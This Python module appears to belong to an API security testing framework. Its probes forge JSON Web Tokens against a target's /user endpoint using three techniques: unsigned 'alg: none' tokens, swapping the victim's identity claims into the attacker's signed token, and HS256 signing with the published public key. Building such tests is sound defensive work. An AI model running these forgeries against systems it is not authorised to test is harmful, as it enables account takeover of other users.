"""Forged session tokens (OWASP API2). Each probe first shows that the victim's true token works, so that a refusal says
something about the forgery and not about the route.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable
from typing import Any

from security.probe import published_key
from security.probe.identity import Identity
from security.probe.outcome import CouldNotRunError, Verdict, not_applicable, stopped, succeeded
from security.probe.scene import Scene, field_of, require

# Claims that say when or which, not who: they stay the attacker's own.
NOT_IDENTITY = frozenset({"iat", "exp", "nbf", "jti"})
ALGORITHM_NONE = ("none", "None", "NONE", "nOnE")
KEYS_PATH = "/.well-known/jwks.json"


def token_unsigned(scene: Scene) -> Verdict:
    """The victim's claims under `alg: none`, without a signature."""
    victim = _victim(scene)
    header, claims, _ = _parts(victim.token)
    forged = (f"{_encode({**header, 'alg': name})}.{_encode(claims)}." for name in ALGORITHM_NONE)
    return _judge(scene, victim, forged, "unsigned tokens (alg: none) with the victim's claims")


def token_tampered(scene: Scene) -> Verdict:
    """The attacker's own token with the victim in its payload and the attacker's signature left as it was."""
    victim, attacker = _victim(scene), scene.people.sign_in()
    theirs = _parts(victim.token)[1]
    _, own, signature = _parts(attacker.token)
    changed = {name for name, value in theirs.items() if name not in NOT_IDENTITY and own.get(name) != value}
    require(changed, "The tokens of two users differ in no claim: the payload can't be made to name the victim.")
    payload = _encode({**own, **{name: theirs[name] for name in changed}})
    forged = f"{attacker.token.split('.')[0]}.{payload}.{signature}"
    return _judge(scene, victim, [forged], f"the attacker's token with the victim's {', '.join(sorted(changed))}")


def token_algorithm_swap(scene: Scene) -> Verdict:
    """The victim's claims signed with HMAC under the published public key, in each form that a library may load."""
    published = scene.people.visitor().get(KEYS_PATH)
    jwks = field_of(published, "keys")
    if published.status_code != 200 or not jwks:
        return not_applicable(f"No public key is published: {KEYS_PATH} answers {published.status_code}.")
    keys = list(published_key.encodings(jwks))
    require(keys, f"{KEYS_PATH} holds no public key of a known type.")
    victim = _victim(scene)
    header, claims, _ = _parts(victim.token)
    message = f"{_encode({**header, 'alg': 'HS256'})}.{_encode(claims)}"
    forged = (f"{message}.{_base64(hmac.new(key, message.encode(), hashlib.sha256).digest())}" for key in keys)
    return _judge(scene, victim, forged, "tokens signed with HS256 under the published public key")


def _victim(scene: Scene) -> Identity:
    victim = scene.people.sign_in()
    require(_named_by(scene, victim.token) == victim.username, "The victim's own token is not accepted.")
    return victim


def _judge(scene: Scene, victim: Identity, forged: Iterable[str], what: str) -> Verdict:
    tried = 0
    for token in forged:
        tried += 1
        named = _named_by(scene, token)
        if named == victim.username:
            return succeeded(
                f"The target takes {what} for {named}: GET {scene.path('/user')} shows the victim's account."
            )
        require(named is None, f"A forged token was taken for {named}, who is not the victim.")
    require(tried, "No forged token could be made.")
    return stopped(f"The victim's true token is accepted; {what} are refused ({tried} tried).")


def _named_by(scene: Scene, token: str) -> str | None:
    """Whom the target takes the bearer of this token for; None where it refuses."""
    with scene.people.bearing(token) as client:
        answer = client.get(scene.path("/user"))
    if answer.status_code in (401, 403):
        return None
    name = field_of(answer, "user", "username")
    if answer.status_code != 200 or not isinstance(name, str):
        raise CouldNotRunError(f"GET {scene.path('/user')} answered {answer.status_code} to a token.")
    return name


def _parts(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """Header, claims and signature of a JSON Web Token in compact form (RFC 7519)."""
    try:
        first, second, signature = token.split(".")
        header, claims = json.loads(_decoded(first)), json.loads(_decoded(second))
    except ValueError as error:
        raise CouldNotRunError(f"The target's token is no JSON Web Token: {error}.") from error
    require(isinstance(header, dict) and isinstance(claims, dict), "The target's token is no JSON Web Token.")
    return header, claims, signature


def _decoded(piece: str) -> bytes:
    return base64.urlsafe_b64decode(piece + "=" * (-len(piece) % 4))


def _encode(value: dict[str, Any]) -> str:
    return _base64(json.dumps(value, separators=(",", ":")).encode())


def _base64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
